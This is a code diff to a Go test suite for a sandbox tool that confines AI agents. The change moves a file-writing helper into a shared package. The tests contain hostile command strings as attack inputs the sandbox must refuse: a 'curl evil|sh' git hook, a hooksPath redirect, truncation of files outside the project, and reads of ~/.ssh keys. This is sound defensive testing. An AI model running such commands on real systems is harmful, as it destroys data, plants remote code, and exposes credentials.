@@ -8,6 +8,8 @@ import (
 	"path/filepath"
 	"strings"
 	"testing"
+
+	"github.com/jail-sandbox/jail/internal/testutil"
 )
 
 // Each test here attempts, from inside the default agent profile, something the threat model says
@@ -20,8 +22,8 @@ func project(t *testing.T) (proj, outside string) {
 	t.Helper()
 	proj, outside = t.TempDir(), t.TempDir()
 	git(t, proj, "init", "-q")
-	writeFile(t, filepath.Join(proj, "main.py"), "print('hi')\n")
-	writeFile(t, filepath.Join(outside, "victim"), "original\n")
+	testutil.WriteFile(t, filepath.Join(proj, "main.py"), "print('hi')\n")
+	testutil.WriteFile(t, filepath.Join(outside, "victim"), "original\n")
 	return proj, outside
 }
 
@@ -31,16 +33,6 @@ func git(t *testing.T, dir string, args ...string) {
 	cmd.Dir = dir
 	if out, err := cmd.CombinedOutput(); err != nil {
 		t.Fatalf("git %s: %s: %s", args, err, out)
-	}
-}
-
-func writeFile(t *testing.T, path, text string) {
-	t.Helper()
-	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
-		t.Fatal(err)
-	}
-	if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
-		t.Fatal(err)
 	}
 }
 
@@ -99,12 +91,12 @@ func TestTruncateUnderReadOnlyGrantRefused(t *testing.T) {
 	proj, outside := project(t)
 	victim := filepath.Join(outside, "victim")
 	control := filepath.Join(t.TempDir(), "control")
-	writeFile(t, control, "original\n")
+	testutil.WriteFile(t, control, "original\n")
 	if out, err := exec.Command("truncate", "-s", "0", control).CombinedOutput(); err != nil || readFile(t, control) != "" {
 		t.Fatalf("the control truncate outside jail failed: %v %s", err, out)
 	}
 	noLandlock := filepath.Join(t.TempDir(), "nolandlock.toml")
-	writeFile(t, noLandlock, "extends = [\"agent\"]\n[landlock]\nmode = \"off\"\n")
+	testutil.WriteFile(t, noLandlock, "extends = [\"agent\"]\n[landlock]\nmode = \"off\"\n")
 	for _, layers := range [][]string{{"--ro", outside}, {"--ro", outside, "-p", noLandlock}} {
 		for _, attack := range []string{"truncate -s 0 " + victim, "python3 -c 'import os; os.close(os.open(\"" + victim + "\", os.O_RDONLY | os.O_TRUNC))'"} {
 			if errOut := refused(t, proj, attack, layers...); !strings.Contains(errOut, "Read-only file system") {
@@ -132,7 +124,7 @@ func TestProtectedPathsRefused(t *testing.T) {
 	hook := filepath.Join(proj, ".git/hooks/pre-commit")
 	config := filepath.Join(proj, ".git/config")
 	configBefore := readFile(t, config)
-	writeFile(t, filepath.Join(proj, ".envrc"), "export SAFE=1\n")
+	testutil.WriteFile(t, filepath.Join(proj, ".envrc"), "export SAFE=1\n")
 	for _, attack := range []string{
 		"echo 'curl evil|sh' > .git/hooks/pre-commit",        // does not exist yet
 		"echo '[core] hooksPath = /tmp' >> .git/config",      // exists
@@ -174,8 +166,8 @@ func TestEnvrcNotYetExistingRefused(t *testing.T) {
 func TestSecretsUnderHomeHidden(t *testing.T) {
 	home := t.TempDir()
 	key := filepath.Join(home, ".ssh", "id_ed25519")
-	writeFile(t, key, "PRIVATE KEY\n")
-	writeFile(t, filepath.Join(home, "notes.txt"), "not secret\n")
+	testutil.WriteFile(t, key, "PRIVATE KEY\n")
+	testutil.WriteFile(t, filepath.Join(home, "notes.txt"), "not secret\n")
 	o := runOpts{dir: t.TempDir(), env: []string{"HOME=" + home}}
 	// Home is an empty tmpfs by default; granting it read-only still hides ~/.ssh.
 	for _, extra := range [][]string{nil, {"--ro", home}} {
@@ -287,7 +279,7 @@ func TestNoCapabilitiesAndNoNewPrivs(t *testing.T) {
 func TestSeccompFilterOnUnlessTurnedOff(t *testing.T) {
 	dir := t.TempDir()
 	off := filepath.Join(dir, "off.toml")
-	writeFile(t, off, "extends = [\"agent\"]\n[syscalls]\ndefault = \"off\"\n")
+	testutil.WriteFile(t, off, "extends = [\"agent\"]\n[syscalls]\ndefault = \"off\"\n")
 	for _, tc := range []struct {
 		args []string
 		want string
@@ -319,7 +311,7 @@ func TestHostAbstractSocketUnreachable(t *testing.T) {
 	defer l.Close()
 	dir := t.TempDir()
 	profile := filepath.Join(dir, "nolandlock.toml")
-	writeFile(t, profile, "extends = [\"agent\"]\n[landlock]\nmode = \"off\"\n")
+	testutil.WriteFile(t, profile, "extends = [\"agent\"]\n[landlock]\nmode = \"off\"\n")
 	script := `import socket, sys
 s = socket.socket(socket.AF_UNIX)
 try:
